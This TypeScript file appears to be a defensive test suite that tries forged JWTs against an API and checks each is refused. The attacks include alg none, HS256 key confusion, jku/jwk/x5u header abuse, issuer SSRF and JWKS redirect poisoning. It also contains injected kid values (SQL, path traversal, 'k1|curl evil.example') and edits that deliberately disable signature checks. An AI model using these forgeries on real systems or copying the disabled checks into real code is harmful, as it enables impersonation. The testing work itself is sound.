/** Tokens that the identity provider did not sign: by nobody, or by a key of the attacker's. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { exportJWK, generateKeyPair, type JWTPayload, SignJWT } from 'jose';
import { type Attack, edit, SUCCEEDED } from './attack.ts';
import type { Api, Lab } from './lab.ts';
import { ISSUER, listModels, refusedToken, USER_TOKEN } from './token-requests.ts';

const VERIFY = 'const { payload, protectedHeader } = await jwtVerify(token, keysOf(issuer), {';
/** Believes whatever a token says. */
const UNVERIFIED = edit(
  USER_TOKEN,
  VERIFY,
  'const payload = decodeJwt(token); const protectedHeader = { typ: undefined }; void ({',
);
const SIGNED_BY_ISSUER = 'signature by a key of the issuer, in an algorithm of the allow-list';

const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');

function claimsFor({ idp }: Api, changes: JWTPayload = {}): JWTPayload {
  const now = Math.floor(Date.now() / 1000);
  return { iss: idp.issuer, aud: idp.audience, sub: 'alice', iat: now, exp: now + 600, ...changes };
}

/** A server of the attacker's with his own key set; says how often it was asked. */
async function attackersIssuer(lab: Lab) {
  const { publicKey, privateKey } = await generateKeyPair('ES256', { extractable: true });
  const jwk = { ...(await exportJWK(publicKey)), kid: 'k1', alg: 'ES256', use: 'sig' };
  let asked = 0;
  const server = createServer((_request, response) => {
    asked += 1;
    response.setHeader('Content-Type', 'application/json');
    response.end(JSON.stringify({ keys: [jwk] }));
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  lab.atEnd(() => server.close());
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { url, jwk, privateKey, wasAsked: () => asked > 0 };
}

/** A token that the attacker signed with a key of his own, under this header. */
async function selfSigned(
  lab: Lab,
  header: (mine: Awaited<ReturnType<typeof attackersIssuer>>) => Record<string, unknown>,
  claims: (mine: { url: string }) => JWTPayload = () => ({}),
) {
  const api = await lab.api();
  const mine = await attackersIssuer(lab);
  const token = await new SignJWT(claimsFor(api, claims(mine)))
    .setProtectedHeader({ alg: 'ES256', ...header(mine) })
    .sign(mine.privateKey);
  const outcome = await listModels(api, token);
  return outcome !== SUCCEEDED && mine.wasAsked() ? 'the attacker’s server was asked' : outcome;
}

export const forgedTokens: readonly Attack[] = [
  refusedToken(
    'alg-none',
    'an unsigned token, alg none, in the name of another user',
    SIGNED_BY_ISSUER,
    { edits: [UNVERIFIED] },
    async (lab) => {
      const api = await lab.api();
      return listModels(api, `${part({ alg: 'none' })}.${part(claimsFor(api))}.AA`);
    },
  ),
  refusedToken(
    'alg-hs256-public-key',
    'HS256 with the issuer’s public key as the secret',
    SIGNED_BY_ISSUER,
    { edits: [UNVERIFIED] },
    async (lab) => {
      const api = await lab.api();
      const { keys } = (await (await fetch(api.idp.jwksUri)).json()) as { keys: object[] };
      const token = await new SignJWT(claimsFor(api))
        .setProtectedHeader({ alg: 'HS256', kid: 'k1' })
        .sign(Buffer.from(JSON.stringify(keys[0])));
      return listModels(api, token);
    },
  ),
  refusedToken(
    'own-key-known-kid',
    'a token signed with one’s own key under the issuer’s kid',
    SIGNED_BY_ISSUER,
    { edits: [UNVERIFIED] },
    (lab) => selfSigned(lab, () => ({ kid: 'k1' })),
  ),
  ...[
    ['kid-path', '../../../../../dev/null'],
    ['kid-sql', "k1' UNION SELECT 'secret' --"],
    ['kid-command', 'k1|curl evil.example'],
  ].map(([name = '', kid]) =>
    refusedToken(
      name,
      `kid ${kid}`,
      'a kid is compared with those of the key set, and nothing else is done with it',
      { edits: [UNVERIFIED] },
      (lab) => selfSigned(lab, () => ({ kid })),
    ),
  ),
  refusedToken(
    'jku-header',
    'a key set of one’s own, named by the token’s jku (also SSRF)',
    'keys come from the configured URL; jku is never followed',
    {
      edits: [
        edit(
          USER_TOKEN,
          'import { decodeJwt,',
          'import { decodeProtectedHeader, createRemoteJWKSet, decodeJwt,',
        ),
        edit(
          USER_TOKEN,
          'jwtVerify(token, keysOf(issuer), {',
          'jwtVerify(token, createRemoteJWKSet(new URL(decodeProtectedHeader(token).jku as string)), {',
        ),
      ],
    },
    (lab) => selfSigned(lab, ({ url }) => ({ kid: 'k1', jku: `${url}/jwks` })),
  ),
  refusedToken(
    'jwk-header',
    'the attacker’s public key inside the token’s header',
    'keys come from the configured URL; jwk is never believed',
    {
      edits: [
        edit(USER_TOKEN, 'import { decodeJwt,', 'import { EmbeddedJWK, decodeJwt,'),
        edit(USER_TOKEN, 'jwtVerify(token, keysOf(issuer), {', 'jwtVerify(token, EmbeddedJWK, {'),
      ],
    },
    (lab) => selfSigned(lab, ({ jwk }) => ({ jwk: { ...jwk, kid: undefined, use: undefined } })),
  ),
  refusedToken(
    'x5u-header',
    'a certificate of one’s own, named by the token’s x5u',
    'keys come from the configured URL; x5u and x5c are never followed',
    { edits: [UNVERIFIED] },
    (lab) => selfSigned(lab, ({ url }) => ({ kid: 'k1', x5u: `${url}/cert.pem` })),
  ),
  refusedToken(
    'issuer-ssrf',
    'a token whose issuer is the attacker’s own server',
    'issuers are a list in the configuration; none is discovered',
    {
      edits: [
        edit(
          USER_TOKEN,
          ISSUER,
          `${ISSUER.slice(0, -1)} ?? { issuer: claimedIssuer(token) as string, audience: 'modelseal', jwksUri: claimedIssuer(token) + '/jwks', algorithms: ['ES256'] };`,
        ),
      ],
    },
    (lab) =>
      selfSigned(
        lab,
        () => ({ kid: 'k1' }),
        ({ url }) => ({ iss: url }),
      ),
  ),
  {
    name: 'token/jwks-redirect',
    tries: 'a key set endpoint that redirects to the attacker’s (JWKS poisoning)',
    refused: '503 unavailable',
    defence: 'redirects of the key set endpoint are not followed',
    off: {
      edits: [
        edit('functions/attestation/vendor-request.ts', "redirect: 'error'", "redirect: 'follow'"),
      ],
    },
    async run(lab) {
      const mine = await attackersIssuer(lab);
      const hijacked = createServer((_request, response) =>
        response.writeHead(302, { location: `${mine.url}/jwks` }).end(),
      );
      await new Promise<void>((done) => hijacked.listen(0, '127.0.0.1', done));
      lab.atEnd(() => hijacked.close());
      const iss = 'https://id.example';
      const jwksUri = `http://127.0.0.1:${(hijacked.address() as AddressInfo).port}/jwks`;
      const trusted = { issuer: iss, audience: 'modelseal', jwksUri, algorithms: ['ES256'] };
      const api = await lab.api({ environment: { OIDC_ISSUERS: JSON.stringify([trusted]) } });
      const token = await new SignJWT(claimsFor(api, { iss }))
        .setProtectedHeader({ alg: 'ES256', kid: 'k1' })
        .sign(mine.privateKey);
      return listModels(api, token);
    },
  },
  {
    name: 'token/jwks-symmetric',
    tries: 'a symmetric algorithm in the configuration, so that public keys would verify',
    refused: 'ConfigError',
    defence: 'only asymmetric algorithms can be configured',
    off: {
      edits: [
        edit(
          'functions/config.ts',
          "z.enum(['RS256', 'PS256', 'ES256', 'ES384', 'EdDSA'])",
          'z.string()',
        ),
      ],
    },
    async run(lab) {
      const issuer = {
        issuer: 'https://id.example',
        audience: 'a',
        jwksUri: 'https://id.example/k',
      };
      const issuers = JSON.stringify([{ ...issuer, algorithms: ['HS256'] }]);
      return lab.api({ environment: { OIDC_ISSUERS: issuers } }).then(
        () => SUCCEEDED,
        (error: Error) => error.name,
      );
    },
  },
];
